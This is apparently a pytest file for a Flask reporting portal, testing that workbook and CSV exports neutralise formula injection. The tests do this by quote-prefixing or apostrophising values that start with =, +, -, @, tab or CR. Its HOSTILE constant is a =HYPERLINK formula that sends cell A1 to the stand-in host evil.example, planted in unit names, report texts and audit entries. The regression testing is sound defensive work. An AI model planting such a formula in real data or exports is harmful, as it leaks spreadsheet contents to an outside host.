"""Formula injection (issue 14, finding 2): a text beginning with ``=`` (or ``+ - @``, tab,
carriage return) in a report, a plan section, a unit's or a person's name comes out of
every workbook and CSV export as text, never as a formula; real numbers stay numbers.

Expectations (portal/export_cells.py): in a workbook the cell is a text cell holding the
value exactly, quote-prefixed, and no sheet holds a formula (``<f>``); in a CSV file the
cell starts with an apostrophe, as OWASP recommends.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from flask import Flask
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from portal.audit.entry import AuditEntry
from portal.export_cells import csv_cell, workbook_bytes
from portal.extensions import db
from portal.frameworks.framework import FrameworkNode
from portal.frameworks.indicator import Indicator
from portal.reports.consolidation import launch, run_consolidation
from portal.reports.report import ReportValue, UnitReport
from tenants.scoping import system_scope
from tenants.unit import Unit
from tests.builders import exported, framework

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def unit(code: str) -> Unit:
    return db.session.scalar(select(Unit).where(Unit.code == code))


def cells_of(data: bytes) -> list:
    """Every cell of every sheet; and no sheet of the file holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cells(data: bytes, *hostile: str) -> list:
    cells = cells_of(data)
    for value in hostile:
        found = [c for c in cells if c.value == value]
        assert found, f"{value!r} is not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in found), value
    return cells


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_one_helper_neutralizes_every_formula_start(value: str) -> None:
    assert csv_cell(value) == "'" + value
    book = Workbook()
    book.active.append([value, 42, -1.5, "-12", "Huyện Một"])
    cells = cells_of(workbook_bytes(book))
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (value, "s", True), (42, "n", False), (-1.5, "n", False), ("-12", "s", False),
        ("Huyện Một", "s", False)]
    # numbers and plain texts are left as they are
    assert [csv_cell(v) for v in (42, -1.5, "-12", "+3,5", "Huyện Một", None)] == [
        42, -1.5, "-12", "+3,5", "Huyện Một", None]


@pytest.fixture
def hostile_province(province: int) -> int:
    """The dashboard's province with a hostile unit name, report text and plan sections."""
    with system_scope("test"):
        unit("D1").name = HOSTILE
        text = db.session.scalar(select(ReportValue).join(
            Indicator, Indicator.id == ReportValue.indicator_id).join(
            UnitReport, UnitReport.id == ReportValue.report_id).where(
            Indicator.code == "II.1.e", UnitReport.unit_id == unit("D1").id))
        text.text = "-" + HOSTILE
        for node in db.session.scalars(select(FrameworkNode).where(
                FrameworkNode.version_id.in_([v.id for v in framework(province).versions]))):
            node.title = "@" + HOSTILE
        db.session.commit()
    return province


def test_the_consolidation_workbook_writes_texts_as_text(hostile_province: int,
                                                        login_as) -> None:
    with system_scope("test"):
        row = launch(unit("P1"), framework(hostile_province), 2026, None)
        db.session.commit()
        consolidation_id, root = row.id, row.unit_id
    run_consolidation(consolidation_id, root)
    response = exported(login_as("platform"), consolidation_id, "xlsx")
    assert response.status_code == 200
    cells = assert_text_cells(response.data, HOSTILE, "-" + HOSTILE)
    counts = {c.coordinate: c for c in cells if c.parent.title == "Tổng hợp" and c.row == 4}
    assert counts["A4"].data_type == "n" and isinstance(counts["A4"].value, int)


def test_the_dashboard_workbook_writes_texts_as_text(hostile_province: int,
                                                     login_as) -> None:
    response = login_as("platform").get("/units/P1/dashboard.xlsx?year=2026")
    assert response.status_code == 200
    cells = assert_text_cells(response.data, HOSTILE, "@" + HOSTILE)
    d1 = next(c for c in cells if c.parent.title == "Đơn vị" and c.value == "D1")
    submitted = d1.parent.cell(row=d1.row, column=5)
    assert submitted.data_type == "n" and submitted.value == 2


def test_the_coverage_workbook_writes_texts_as_text(hostile_province: int, login_as) -> None:
    response = login_as("platform").get(f"/frameworks/{hostile_province}/coverage.xlsx")
    assert response.status_code == 200
    cells = assert_text_cells(response.data, "@" + HOSTILE)
    assert any(isinstance(c.value, str) and c.value.startswith(HOSTILE) and c.quotePrefix
               for c in cells)   # the implementing units' names, D1's first
    counts = [c for c in cells if c.parent.title == "Độ bao phủ" and c.column == 3
              and c.row > 3]
    assert counts and all(c.data_type == "n" and isinstance(c.value, int) for c in counts)


def test_the_audit_csv_escapes_formula_cells(world, login_as) -> None:
    from datetime import UTC, datetime

    with system_scope("test"):
        db.session.add(AuditEntry(at=datetime(2026, 3, 1, tzinfo=UTC), unit_id=unit("D1").id,
                                  actor=HOSTILE, object_type="unit", object_id=-7,
                                  action="update", label="+" + HOSTILE))
        db.session.commit()
    exported = login_as("admin").get("/units/D1/audit.csv?type=unit")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    mine = next(r for r in rows if r[5] == "-7")       # a negative number stays a number
    assert mine[3] == "'" + HOSTILE and mine[7] == "'+" + HOSTILE
    assert mine[0].isdigit()


def test_the_administration_csv_export_escapes_formula_cells(app: Flask, world,
                                                             login_as) -> None:
    from portal.accounts.service import find_user

    with system_scope("test"):
        find_user(world.usernames["drafter"]).full_name = HOSTILE
        db.session.commit()
    exported = login_as("admin").get("/unit-admin/user_account/export/csv/", buffered=True)
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    drafter = next(r for r in rows if r[0] == "u.drafter")
    assert drafter[1] == "'" + HOSTILE
    head = next(r for r in rows if r[0] == "u.head")
    assert head[1] == "Người head"
